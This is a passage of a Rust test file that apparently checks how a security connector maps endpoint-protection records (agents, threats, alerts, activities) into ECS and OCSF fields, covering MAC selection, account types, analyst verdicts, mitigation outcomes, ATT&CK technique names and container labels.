        ("lxcbr0", "00:16:3e:00:00:00"),
        ("waydroid0", "00:16:3e:00:00:01"),
        ("crc", "52:54:00:fd:be:d0"),
        ("eth1", "52:54:00:12:34:56"),
    ] {
        let interfaces = json!([
            {"id": "1", "name": name, "physical": shared, "inet": ["169.254.3.1"]},
            {"id": "2", "name": "eno1", "physical": own, "inet": ["10.0.5.20"]},
        ]);
        let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "lastIpToMgmt": "10.0.5.20",
            "networkInterfaces": interfaces});
        let real_time = json!({"agentRealtimeInfo": {"agentId": "9", "networkInterfaces": interfaces}});
        for (stream, record) in [(Stream::Agents, agent), (Stream::Threats, threat(json!({}), real_time))] {
            let event = map_to(Schema::Ecs, stream, &record);
            assert_fields(&event, &[("host.mac", json!(["3C-EC-EF-11-22-33"]))]);
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_fields(&event, &[("device.ip", json!("10.0.5.20")), ("device.mac", json!(own))]);
            let macs = observed(&event).into_iter().filter(|(kind, _)| kind == "MAC Address");
            assert!(macs.map(|(_, mac)| mac).all(|mac| mac == own), "{name}: {event:#}");
        }
    }
}

/// A managed service account has a name that ends in `$` too.
#[test]
fn the_dollar_of_an_owner_is_the_machines_own() {
    let ws = "ws-7";
    let long = "Workstation-of-Jane";
    for (host, name, kind) in [
        (ws, "ACME\\WS-7$", "System"),
        (ws, "WS-70$", "Unknown"),
        (ws, "WS$", "Unknown"),
        (ws, "ACME\\gmsa-sql$", "Unknown"),
        ("ws-7.acme.example", "WS-7$", "System"),
        // The name of an account has at most 15 characters of the machine's.
        (long, "WORKSTATION-OF-$", "System"),
        (long, "WORKSTATION-OF-JANE$", "System"),
        (long, "WORKSTATION$", "Unknown"),
        ("N/A", "N/A$", "Unknown"),
        ("", "WS-7$", "Unknown"),
    ] {
        let user = json!({"agentLastLoggedInUserName": name});
        let asset = json!({"name": host, "agentUuid": "u", "lastLoggedInUser": name});
        for (stream, record) in [
            (Stream::Agents, json!({"id": "9", "computerName": host, "lastLoggedInUserName": name})),
            (
                Stream::Threats,
                threat(
                    json!({}),
                    json!({"agentDetectionInfo": user, "agentRealtimeInfo": {"agentId": "9", "agentComputerName": host}}),
                ),
            ),
            (Stream::UnifiedAlerts, json!({"id": "u", "assets": [asset]})),
        ] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            let is_device = event.get("device").is_some();
            assert!(is_device || ["", "N/A"].contains(&host), "{stream}: {event:#}");
            let expected = if is_device { json!(kind) } else { Value::Null };
            assert_fields(&event, &[("device.owner.type", expected)]);
        }
    }
}

#[test]
fn the_owner_of_a_device_is_a_person() {
    for (name, kind) in [
        ("WS-7$", "System"),
        ("ACME\\WS-7$", "System"),
        ("SYSTEM", "System"),
        ("AUTORITE NT\\Système", "System"),
        ("NT-AUTORITÄT\\SYSTEM", "System"),
        ("SISTEMA", "System"),
        ("СИСТЕМА", "System"),
        ("Local System", "System"),
        ("NT AUTHORITY\\NETWORK SERVICE", "Service"),
        ("LOKALER DIENST", "Service"),
        ("SERVICE RÉSEAU", "Service"),
        ("Window Manager\\DWM-1", "Unknown"),
        ("UMFD-0", "Unknown"),
        ("DWM-x", "User"),
        ("umfd", "User"),
        ("$", "User"),
        ("Système X", "User"),
        ("jane", "User"),
    ] {
        let agent = json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "computerName": "WS-7",
            "lastLoggedInUserName": name});
        let event = map_to(Schema::Ocsf, Stream::Agents, &agent);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_eq!(event["device"]["owner"]["type"], json!(kind), "{name}: {event:#}");
    }
    // A process may run as a managed service account: `$` does not tell it from a computer.
    for (name, kind) in
        [("WS-7$", "Unknown"), ("AUTORITE NT\\Système", "System"), ("SYSTEM", "System"), ("jane", "Unknown")]
    {
        let event = map_to(Schema::Ocsf, Stream::Threats, &threat(json!({"processUser": name}), json!({})));
        assert_eq!(event["evidences"][0]["user"]["type"], json!(kind), "{name}: {event:#}");
        let login = json!({"alertInfo": {"alertId": "1", "eventType": "WINLOGONATTEMPT", "loginsUserName": name}});
        let event = map_to(Schema::Ocsf, Stream::Alerts, &login);
        assert!(event["evidences"].to_string().contains(&format!(r#""type":"{kind}""#)), "{name}: {event:#}");
    }
}

#[test]
fn a_former_assignee_is_related() {
    for data in forms_of_alert("old_assignee_email", json!("eve@acme.example")) {
        let [ecs, ocsf] = of_activity(16004, json!({}), data);
        let users = ecs["related"]["user"].as_array().unwrap();
        assert!(users.contains(&json!("eve@acme.example")), "{ecs:#}");
        assert_fields(&ocsf, &[("assignee", Value::Null)]);
    }
    let changes = json!({"old_assignee_email": "eve@acme.example", "new_assignee_email": "bob@acme.example"});
    let [ecs, ocsf] = of_activity(16004, json!({}), json!({"alert": {"id": "a"}, "payload": {"changes": changes}}));
    assert_fields(&ecs, &[("related.user", json!(["bob@acme.example", "eve@acme.example"]))]);
    assert_fields(&ocsf, &[("assignee.email_addr", json!("bob@acme.example"))]);
    // In other activities, the key is nobody's.
    let [ecs, _] = of_activity(43, json!({}), json!({"oldAssigneeEmail": "eve@acme.example"}));
    assert_fields(&ecs, &[("related", Value::Null)]);
}

#[test]
fn blanks_around_a_hyphen_are_one_separator() {
    for (word, verdict, is_malware) in [
        ("True positive - Benign", "Benign", false),
        ("True positive - Benign but suspicious", "Suspicious", true),
        ("True  positive  benign", "Benign", false),
        ("False Positive - Benign", "False Positive", false),
        ("True positive - Malware", "True Positive", true),
    ] {
        let record = json!({"id": "u", "name": "x", "detectedAt": "2026-01-01T00:00:00Z", "classification": "MALWARE",
            "analystVerdict": word, "status": "In - Progress"});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("verdict", json!(verdict)), ("status", json!("In Progress"))]);
        assert_eq!(event.get("malware").is_some(), is_malware, "{word}: {event:#}");
        let info = json!({"analystVerdict": word, "mitigationStatus": "marked - as benign"});
        let event = map_to(Schema::Ocsf, Stream::Threats, &threat(info.clone(), json!({})));
        assert_fields(&event, &[("verdict", json!(verdict)), ("disposition", json!("Exonerated"))]);
        let event = map_to(Schema::Ecs, Stream::Threats, &threat(info, json!({})));
        assert_fields(&event, &[("event.action", json!("threat-marked-as-benign"))]);
    }
}

#[test]
fn the_program_of_a_session_is_executable_without_a_path_too() {
    let sha1 = "0269962600000000000000000000000000000000";
    let name = "powershell.exe (interactive session)";
    let info = json!({"threatName": name, "isFileless": true, "sha1": sha1, "filePath": "", "fileExtension": ""});
    let data = json!({"threatClassification": "Malware", "fileDisplayName": name, "fileContentHash": sha1});
    let file = json!({"name": name, "sha1": sha1});
    for (stream, record) in [
        (Stream::Threats, threat(info, json!({}))),
        (Stream::UnifiedAlerts, json!({"id": "u", "detectedAt": "2026-01-01T00:00:00Z", "process": {"file": file}})),
        (Stream::Activities, activity(19, json!({"threatId": "5"}), data)),
    ] {
        let event = map_to(Schema::Ocsf, stream, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(
            &event["evidences"][0],
            &[("file.name", json!("powershell.exe")), ("file.type", json!("Executable File"))],
        );
        let event = map_to(Schema::Ecs, stream, &record);
        assert_eq!(faults(Schema::Ecs, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("file.name", json!("powershell.exe")), ("file.extension", json!("exe"))]);
    }
    // A command line has no file.
    let data = json!({"fileDisplayName": "powershell.exe (CLI 0269)", "fileContentHash": sha1});
    let event = map_to(Schema::Ocsf, Stream::Activities, &activity(19, json!({"threatId": "5"}), data));
    assert_eq!(event.pointer("/evidences/0/file"), None, "{event:#}");
}

#[test]
fn a_successful_action_decides_whatever_the_status_says() {
    let of = |status: Value, reports: Value| {
        let record = threat(json!({"mitigationStatus": status}), json!({"mitigationStatus": reports}));
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        (event["disposition"].clone(), event["action"].clone())
    };
    let report = |action: &str, status: &str| json!({"action": action, "status": status, "mitigationEndedAt": "2026-01-01T00:00:00Z"});
    let quarantine = report("quarantine", "success");
    for status in [json!("pending"), json!("suspicious"), json!("suspicious_resolved"), Value::Null] {
        assert_eq!(of(status.clone(), json!([quarantine])), (json!("Quarantined"), json!("Denied")), "{status}");
        let with_failed = json!([quarantine, report("kill", "failed")]);
        assert_eq!(of(status.clone(), with_failed), (json!("Partially Corrected"), json!("Denied")), "{status}");
        let restored = json!([quarantine, report("un-quarantine", "success")]);
        assert_eq!(of(status.clone(), restored), (json!("Restored"), json!("Allowed")), "{status}");
        // What is neither in the status nor in a report is unknown.
        for reports in [json!([]), json!([report("quarantine", "failed")]), json!([report("quarantine", "pending")])] {
            assert_eq!(of(status.clone(), reports), (Value::Null, Value::Null), "{status}");
        }
    }
    for action in ["unquarantine", "un-quarantine", "un_quarantine"] {
        let restored = json!([report(action, "success")]);
        assert_eq!(of(json!("active"), restored), (json!("Restored"), json!("Allowed")), "{action}");
    }
}

#[test]
fn a_missing_domain_is_no_domain() {
    let agent =
        json!({"id": "9", "updatedAt": "2026-01-01T00:00:00Z", "computerName": "W7", "domain": "MISSING DOMAIN"});
    let others = json!({"agentDetectionInfo": {"agentDomain": "MISSING DOMAIN"},
        "agentRealtimeInfo": {"agentId": "9", "agentComputerName": "W7"}});
    for (stream, record) in [(Stream::Agents, agent), (Stream::Threats, threat(json!({}), others))] {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_fields(&event, &[("host.domain", Value::Null), ("related.hosts", json!(["W7"]))]);
        let event = map_to(Schema::Ocsf, stream, &record);
        assert_fields(&event, &[("device.domain", Value::Null)]);
    }
}

#[test]
fn a_confidence_that_does_not_apply_is_unknown_in_any_spelling() {
    for word in ["n/a", "N/A", "n_a", "N_A"] {
        let record = threat(json!({"confidenceLevel": word}), json!({}));
        let event = map_to(Schema::Ecs, Stream::Threats, &record);
        assert_fields(&event, &[("threat.indicator.confidence", json!("Not Specified"))]);
        let event = map_to(Schema::Ocsf, Stream::Threats, &record);
        assert_fields(&event, &[("confidence_id", json!(0)), ("confidence", json!("Unknown"))]);
    }
}

/// ATT&CK's table has the names of those that are in use.
#[test]
fn a_retired_technique_has_the_consoles_name() {
    let of = |technique: Value| {
        let indicators = json!([{"description": "d", "tactics": [{"name": "Execution", "techniques": [technique]}]}]);
        let record = threat(json!({}), json!({"indicators": indicators}));
        [Schema::Ecs, Schema::Ocsf].map(|schema| map_to(schema, Stream::Threats, &record))
    };
    let [ecs, ocsf] = of(json!({"name": "PowerShell", "link": "https://attack.mitre.org/techniques/T1086/"}));
    assert_fields(&ecs, &[("threat.technique.id", json!(["T1086"])), ("threat.technique.name", json!(["PowerShell"]))]);
    let technique = &ocsf["finding_info"]["attacks"][0]["technique"];
    assert_fields(technique, &[("uid", json!("T1086")), ("name", json!("PowerShell"))]);
    // ATT&CK's own name comes first, and an id is no name.
    let [ecs, _] = of(json!({"name": "Shell", "link": "https://attack.mitre.org/techniques/T1059/"}));
    assert_fields(&ecs, &[("threat.technique.name", json!(["Command and Scripting Interpreter"]))]);
    let [ecs, ocsf] = of(json!({"name": "T1086", "link": "https://attack.mitre.org/techniques/T1086/"}));
    assert_fields(&ecs, &[("threat.technique.name", json!(["T1086"]))]);
    assert_fields(&ocsf["finding_info"]["attacks"][0]["technique"], &[("name", Value::Null)]);
}

#[test]
fn labels_of_a_container_are_a_list_or_a_text() {
    let list = json!(["app=web", "tier:\"front,back\"", "odd"]);
    for labels in [list.clone(), json!("app=web, tier:\"front,back\",N/A,,odd")] {
        let container = json!({"name": "c", "labels": labels});
        let agent = json!({"agentId": "9", "agentComputerName": "H", "name": "H"});
        let hit = json!({"alertid": "1", "rulename": "r", "origagentname": "H", "k8scontainername": "c",
            "k8scontainerlabels": labels});
        let cloud = json!({"containerName": "c", "containerLabels": labels, "podName": "p", "podLabels": labels});
        let asset = json!({"primary": true, "asset": {}, "kubernetes": cloud});
        for (stream, record) in [
            (Stream::Threats, json!({"id": "1", "agentRealtimeInfo": agent, "containerInfo": container})),
            (
                Stream::Alerts,
                json!({"alertInfo": {"alertId": "1"}, "agentRealtimeInfo": agent, "containerInfo": container}),
            ),
            (Stream::Activities, activity(3608, json!({}), hit)),
            (
                Stream::UnifiedAlerts,
                json!({"id": "1", "assets": [{"name": "H", "agentUuid": "u"}], "detectionTime": {"assets": [asset]}}),
            ),
        ] {
            let event = map_to(Schema::Ecs, stream, &record);
            assert_eq!(faults(Schema::Ecs, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("container.labels", json!({"app": "web", "tier": "front,back"}))]);
            if stream == Stream::UnifiedAlerts {
                assert_fields(&event, &[("orchestrator.resource.label", list.clone())]);
            }
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("device.container.labels", list.clone())]);
        }
    }
}
